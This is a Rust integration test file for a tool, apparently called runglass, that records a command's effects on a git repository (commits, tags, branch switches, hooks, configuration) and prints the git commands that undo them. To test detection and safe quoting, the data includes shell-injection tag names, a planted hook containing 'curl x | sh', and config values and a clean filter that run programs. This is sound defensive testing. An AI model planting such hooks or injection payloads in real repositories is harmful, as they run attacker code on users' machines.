//! What a command does to a git repository, end to end on real repositories: the commits,
//! branches and tags it made are recorded and shown, revert prints the git commands that
//! undo them (and they do, names from the repository quoted), hooks and configuration that
//! run programs are snapshotted, reverted and raise high risk notes, and the gits runglass
//! runs itself never run what the command planted.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::{change, latest_json, runglass, stderr};
use serde_json::Value;

/// A repository in a temporary directory, and a runglass data directory beside it. git is
/// run with a fixed identity and without the machine's or user's configuration.
struct Repo {
    _tmp: tempfile::TempDir,
    work: std::path::PathBuf,
    data: std::path::PathBuf,
}

const IDENTITY: [(&str, &str); 6] = [
    ("GIT_AUTHOR_NAME", "t"),
    ("GIT_AUTHOR_EMAIL", "t@t"),
    ("GIT_COMMITTER_NAME", "t"),
    ("GIT_COMMITTER_EMAIL", "t@t"),
    ("GIT_CONFIG_GLOBAL", "/dev/null"),
    ("GIT_CONFIG_NOSYSTEM", "1"),
];

impl Repo {
    /// `git init -b main` with one commit.
    fn new() -> Repo {
        let tmp = tempfile::tempdir().unwrap();
        let base = tmp.path().canonicalize().unwrap();
        let (work, data) = (base.join("work"), base.join("data"));
        std::fs::create_dir(&work).unwrap();
        let repo = Repo { _tmp: tmp, work, data };
        repo.git(&["init", "-q", "-b", "main"]);
        std::fs::write(repo.work.join("a"), "a\n").unwrap();
        repo.git(&["add", "a"]);
        repo.git(&["commit", "-qm", "first"]);
        repo
    }

    fn git(&self, args: &[&str]) -> String {
        let out = Command::new("git").current_dir(&self.work).args(args).envs(IDENTITY).output().unwrap();
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }

    fn head(&self) -> String {
        self.git(&["rev-parse", "HEAD"])
    }

    /// `runglass run [ARGS] -- sh -c SCRIPT` in the work tree.
    fn run(&self, args: &[&str], script: &str) -> Value {
        let out = self.runglass(&["run"], args, &["--", "sh", "-c", script]);
        assert!(out.status.success(), "{}", stderr(&out));
        latest_json(&self.data)
    }

    fn runglass(&self, first: &[&str], args: &[&str], last: &[&str]) -> Output {
        runglass(&self.data).current_dir(&self.work).envs(IDENTITY).args(first).args(args).args(last).output().unwrap()
    }

    fn stdout(&self, args: &[&str]) -> String {
        let out = self.runglass(args, &[], &[]);
        assert!(out.status.success(), "runglass {args:?}: {}", stderr(&out));
        String::from_utf8(out.stdout).unwrap()
    }

    /// Runs each git command line the revert preview printed, through `sh`, as a user
    /// pasting them would.
    fn paste(&self, commands: &[String]) {
        for cmd in commands {
            let out = Command::new("sh").current_dir(&self.work).args(["-c", cmd]).envs(IDENTITY).output().unwrap();
            assert!(out.status.success(), "{cmd}: {}", String::from_utf8_lossy(&out.stderr));
        }
    }
}

/// The indented `git ...` lines after revert's note about git.
fn undo_commands(preview: &str) -> Vec<String> {
    let mut lines = preview.lines().skip_while(|l| !l.starts_with("Revert restores files only"));
    assert!(lines.next().is_some(), "no note about git in:\n{preview}");
    lines.filter_map(|l| l.strip_prefix("  ")).map(str::to_string).collect()
}

fn risk_note<'a>(r: &'a Value, id: &str) -> &'a Value {
    let notes = r["risk"]["notes"].as_array().unwrap();
    notes.iter().find(|n| n["id"] == id).unwrap_or_else(|| panic!("no {id} note in {notes:#?}"))
}

#[test]
fn a_commit_and_a_tag_are_recorded_and_revert_prints_the_commands_that_undo_them() {
    let repo = Repo::new();
    let before = repo.head();
    let r = repo.run(&[], "echo b > b; git add -A; git commit -qm 'second, by the command'; git tag v1");
    let g = &r["git"];
    let after = repo.head();
    assert_eq!((g["commit"].as_str(), g["branch"].as_str()), (Some(before.as_str()), Some("main")));
    assert_eq!(g["after"]["commit"], after.as_str());
    assert_eq!(g["after"]["branch"], "main");
    assert_eq!((g["after"]["head_ahead"].as_u64(), g["after"]["head_behind"].as_u64()), (Some(1), Some(0)));
    assert_eq!(g["after"]["commits"][0]["id"], after.as_str());
    assert_eq!(g["after"]["commits"][0]["subject"], "second, by the command");
    assert_eq!(g["after"]["commits"].as_array().unwrap().len(), 1);
    let refs = g["after"]["refs"].as_array().unwrap();
    assert_eq!(refs.len(), 2, "{refs:#?}");
    assert_eq!(
        (&refs[0]["name"], &refs[0]["before"], &refs[0]["after"]),
        (&"refs/heads/main".into(), &before.as_str().into(), &after.as_str().into())
    );
    assert_eq!((&refs[1]["name"], &refs[1]["before"]), (&"refs/tags/v1".into(), &Value::Null));
    // Committed, so clean after; the report does not say only that.
    assert_eq!(g["dirty_after"], false);

    let report = repo.stdout(&["report", "latest"]);
    assert!(report.contains(&format!("-> main @ {} (HEAD 1 commit forward)", &after[..12])), "{report}");
    assert!(report.contains(&format!("commit {} added: second, by the command", &after[..12])), "{report}");
    assert!(report.contains("tag v1 created"), "{report}");
    let ai = repo.stdout(&["report", "latest", "--ai"]);
    assert!(ai.contains(&format!("- commit {} added: second, by the command", &after[..12])), "{ai}");
    // Every exported format says it.
    let out = repo.work.parent().unwrap().join("export");
    repo.stdout(&["export", "--format", "html,markdown,summary-md", "-o", out.to_str().unwrap()]);
    let read = |name: &str| std::fs::read_to_string(out.join(name)).unwrap();
    let markdown = read("receipt.md");
    assert!(markdown.contains("## Git") && markdown.contains(&format!("git reset --soft {before}")), "{markdown}");
    assert!(markdown.contains("second, by the command"), "{markdown}");
    let summary = read("summary.md");
    assert!(summary.contains("**Git:** 1 commit added, 2 branch or tag changes; HEAD 1 commit forward"), "{summary}");
    let html = read("receipt.html");
    assert!(html.contains("<section id=\"git\">") && html.contains("second, by the command"), "{html}");
    assert!(html.contains(&format!("git reset --soft {before}")), "{html}");

    let preview = repo.stdout(&["revert"]);
    assert!(preview.contains("it does not undo what the command did in git (1 commit added"), "{preview}");
    let commands = undo_commands(&preview);
    assert_eq!(commands, [format!("git reset --soft {before}"), "git tag -d -- v1".to_string()]);
    // The files revert restores; the commands put HEAD and the tag back.
    let applied = repo.stdout(&["revert", "--apply"]);
    assert!(applied.contains("Revert restores files only"), "{applied}");
    repo.paste(&commands);
    assert_eq!(repo.head(), before);
    assert_eq!(repo.git(&["tag", "--list"]), "");
}

#[test]
fn a_reset_and_a_switch_to_a_new_branch_show_head_going_back_and_are_undone() {
    let repo = Repo::new();
    for n in ["2", "3"] {
        std::fs::write(repo.work.join("a"), n).unwrap();
        repo.git(&["commit", "-qam", n]);
    }
    let before = repo.head();
    let r = repo.run(&[], "git reset -q --hard HEAD~2 && git switch -q -c topic");
    let a = &r["git"]["after"];
    assert_eq!(a["branch"], "topic");
    assert_eq!((a["head_ahead"].as_u64(), a["head_behind"].as_u64()), (Some(0), Some(2)));
    let dropped: Vec<&str> = a["dropped"].as_array().unwrap().iter().map(|c| c["subject"].as_str().unwrap()).collect();
    assert_eq!(dropped, ["3", "2"], "newest first");
    assert!(a["commits"].as_array().unwrap().is_empty());

    let report = repo.stdout(&["report", "latest"]);
    assert!(report.contains("HEAD switched from main to topic; 2 commits back (a reset)"), "{report}");
    let commands = undo_commands(&repo.stdout(&["revert"]));
    assert_eq!(
        commands,
        ["git switch -- main".to_string(), format!("git reset --soft {before}"), "git branch -D -- topic".into()]
    );
    repo.stdout(&["revert", "--apply"]);
    repo.paste(&commands);
    assert_eq!((repo.head(), repo.git(&["branch", "--show-current"])), (before, "main".to_string()));
    assert_eq!(repo.git(&["branch", "--list", "topic"]), "");
}

#[test]
fn names_from_the_repository_are_quoted_in_the_commands_and_never_run() {
    let repo = Repo::new();
    let hostile = "$(touch${IFS}pwned)`touch${IFS}pwned2`;x'y";
    let r = repo.run(&[], &format!("git tag \"{}\"", hostile.replace('$', "\\$").replace('`', "\\`")));
    assert_eq!(r["git"]["after"]["refs"][0]["name"], format!("refs/tags/{hostile}"));
    let commands = undo_commands(&repo.stdout(&["revert"]));
    assert_eq!(commands.len(), 1, "{commands:?}");
    repo.paste(&commands);
    assert_eq!(repo.git(&["tag", "--list"]), "", "the command deleted the tag it names");
    assert!(!repo.work.join("pwned").exists() && !repo.work.join("pwned2").exists());
}

#[test]
fn a_hook_planted_in_git_is_a_change_with_its_content_a_high_risk_and_reverted() {
    for mode in [&[][..], &["--deep"][..]] {
        let repo = Repo::new();
        let r =
            repo.run(mode, "printf '#!/bin/sh\\necho hi\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit");
        let c = change(&r, ".git/hooks/pre-commit");
        assert_eq!(c["change"], "created", "{mode:?}");
        assert!(c["diff"]["unified"].as_str().unwrap().contains("+echo hi"), "{mode:?}: {c:#}");
        let note = risk_note(&r, "git-hook-changed");
        assert_eq!(note["severity"], "high");
        assert!(note["evidence"][0].as_str().unwrap().starts_with(".git/hooks/pre-commit (created)"), "{note:#}");
        assert_eq!(r["risk"]["level"], "high");
        let applied = repo.stdout(&["revert", "--apply"]);
        assert!(applied.contains("Reverted 1 change(s)"), "{applied}");
        assert!(!repo.work.join(".git/hooks/pre-commit").exists(), "{mode:?}");
    }
}

#[test]
fn a_hook_written_in_another_repository_raises_the_note_from_the_trace() {
    let repo = Repo::new();
    let other = tempfile::tempdir().unwrap();
    let hook = other.path().canonicalize().unwrap().join(".git/hooks/post-checkout");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    let r = repo.run(&["--deep"], &format!("echo 'curl x | sh' > {}", hook.display()));
    let note = risk_note(&r, "git-hook-changed");
    let evidence = note["evidence"][0].as_str().unwrap();
    assert!(evidence.starts_with(&format!("{} (created) by pid ", hook.display())), "{evidence}");
}

#[test]
fn configuration_that_runs_programs_is_recorded_with_its_values_and_who_set_it() {
    let repo = Repo::new();
    let script = "git config core.fsmonitor /opt/x/monitor; git config alias.up '!sh -c evil'; \
                  git config user.email secret@example.com; git config core.hooksPath .githooks";
    for mode in [&[][..], &["--deep"][..]] {
        let r = repo.run(mode, script);
        let config = r["git"]["config"].as_array().unwrap();
        let keys: Vec<&str> = config.iter().map(|c| c["key"].as_str().unwrap()).collect();
        if mode.is_empty() {
            assert_eq!(keys, ["alias.up", "core.fsmonitor", "core.hookspath", "user.email"]);
        } else {
            assert!(keys.is_empty(), "the second run changed nothing: {config:#?}");
            continue;
        }
        let by_key = |k: &str| config.iter().find(|c| c["key"] == k).unwrap();
        assert_eq!(by_key("alias.up")["after"][0], "!sh -c evil");
        assert_eq!(by_key("core.fsmonitor")["runs_program"], true);
        let email = by_key("user.email");
        assert_eq!((email["runs_program"].as_bool(), email["after"].as_array().unwrap().len()), (Some(false), 0));
        assert_eq!(email["files"][0], repo.work.join(".git/config").to_str().unwrap());
        assert_eq!(r["git"]["hooks_dir"], repo.work.join(".githooks").to_str().unwrap());
        let note = risk_note(&r, "git-config-runs-program");
        let evidence: Vec<&str> = note["evidence"].as_array().unwrap().iter().map(|e| e.as_str().unwrap()).collect();
        assert_eq!(evidence.len(), 3, "{evidence:?}");
        assert!(evidence.iter().all(|e| !e.contains("secret")), "{evidence:?}");
        assert!(evidence[1].starts_with("core.fsmonitor = /opt/x/monitor (in "), "{evidence:?}");
    }
    // In deep mode the note names the process that wrote the file.
    let r = repo.run(&["--deep"], "git config core.pager 'less; touch pwned'");
    let note = risk_note(&r, "git-config-runs-program");
    let evidence = note["evidence"][0].as_str().unwrap();
    assert!(evidence.starts_with("core.pager = less; touch pwned (in "), "{evidence}");
    assert!(evidence.contains(", by pid ") && evidence.contains("git config core.pager"), "{evidence}");
}

#[test]
fn a_clean_filter_the_command_configures_is_never_run_by_runglass() {
    let repo = Repo::new();
    let planted = repo.work.join("filter-ran");
    // The filter applies to `a`; touching `a` makes git hash it again, through the filter.
    let script = format!(
        "printf '#!/bin/sh\\ntouch {}\\ncat\\n' > f.sh; chmod +x f.sh; echo 'a filter=evil' > .gitattributes; \
         git config filter.evil.clean \"$PWD/f.sh\"; git config filter.evil.required true; sleep 1; touch a",
        planted.display()
    );
    let r = repo.run(&[], &script);
    assert!(!planted.exists(), "runglass's git status ran the repository's clean filter");
    assert_eq!(r["git"]["dirty_after"], true, "read all the same: .gitattributes and f.sh are new");
    assert!(r["git"]["limits"].as_array().unwrap().is_empty(), "{:#}", r["git"]["limits"]);
    // git runs it: the plant works.
    repo.git(&["status", "--porcelain"]);
    assert!(planted.exists(), "git itself runs the planted filter");
}

#[test]
fn the_dry_run_names_what_it_skips_in_git_and_walks_the_hooks() {
    let repo = Repo::new();
    let out = repo.stdout(&["snapshot", "--dry-run"]);
    assert!(out.contains(".git/objects/  rule `**/.git/*` (defaults)"), "{out}");
    assert!(!out.contains(".git/hooks/") && !out.contains(".git/config "), "{out}");
}

#[test]
fn outside_a_repository_there_is_no_git_section_to_undo() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let out = common::run_script(data.path(), work.path(), &[], "echo x > x");
    assert!(out.status.success());
    let preview = runglass(data.path()).current_dir(work.path()).arg("revert").output().unwrap();
    let text = String::from_utf8(preview.stdout).unwrap();
    assert!(!text.contains("Revert restores files only"), "{text}");
    assert!(Path::new(work.path()).join("x").exists());
}

#[test]
fn the_first_commit_of_a_new_repository_and_a_commit_on_a_detached_head_are_undone_too() {
    let repo = Repo::new();
    // A new repository, whose branch has no commit yet.
    let fresh = repo.work.join("fresh");
    std::fs::create_dir(&fresh).unwrap();
    let git = |dir: &Path, args: &[&str]| {
        let out = Command::new("git").current_dir(dir).args(args).envs(IDENTITY).output().unwrap();
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    };
    git(&fresh, &["init", "-q", "-b", "trunk"]);
    let fresh_repo = Repo { _tmp: tempfile::tempdir().unwrap(), work: fresh.clone(), data: repo.data.clone() };
    let r = fresh_repo.run(&[], "echo a > a; git add a; git commit -qm first");
    assert_eq!((&r["git"]["commit"], &r["git"]["branch"]), (&Value::Null, &"trunk".into()));
    assert_eq!(r["git"]["after"]["commits"][0]["subject"], "first");
    let commands = undo_commands(&fresh_repo.stdout(&["revert"]));
    assert_eq!(commands, ["git update-ref -d refs/heads/trunk"]);
    fresh_repo.paste(&commands);
    assert!(
        Command::new("git").current_dir(&fresh).args(["rev-parse", "--verify", "-q", "HEAD"]).status().unwrap().code()
            == Some(1)
    );
    assert_eq!(git(&fresh, &["symbolic-ref", "HEAD"]), "refs/heads/trunk");

    // A detached HEAD: no branch moves, HEAD does.
    repo.git(&["checkout", "-q", "--detach"]);
    let before = repo.head();
    let r = repo.run(&[], "git commit -q --allow-empty -m loose");
    assert_eq!((&r["git"]["branch"], &r["git"]["after"]["branch"]), (&Value::Null, &Value::Null));
    assert!(r["git"]["after"]["refs"].as_array().unwrap().is_empty());
    let commands = undo_commands(&repo.stdout(&["revert"]));
    assert_eq!(commands, [format!("git reset --soft {before}")]);
    repo.paste(&commands);
    assert_eq!(repo.head(), before);
}

#[test]
fn a_repository_the_command_creates_is_read_and_its_configuration_noted() {
    let tmp = tempfile::tempdir().unwrap();
    let base = tmp.path().canonicalize().unwrap();
    let (work, data) = (base.join("work"), base.join("data"));
    std::fs::create_dir(&work).unwrap();
    let repo = Repo { _tmp: tmp, work, data };
    let r = repo
        .run(&[], "git init -q -b main; git config core.fsmonitor /opt/x/monitor; git commit -q --allow-empty -m one");
    let g = &r["git"];
    assert_eq!(
        (g["created"].as_bool(), &g["commit"], &g["after"]["branch"]),
        (Some(true), &Value::Null, &"main".into())
    );
    assert_eq!(g["after"]["commits"][0]["subject"], "one");
    let note = risk_note(&r, "git-config-runs-program");
    assert!(note["evidence"][0].as_str().unwrap().starts_with("core.fsmonitor = /opt/x/monitor"), "{note:#}");
    let preview = repo.stdout(&["revert"]);
    assert!(preview.contains("the command created the git repository at"), "{preview}");
    assert!(!preview.contains("  git "), "no git command undoes a repository's creation: {preview}");
}
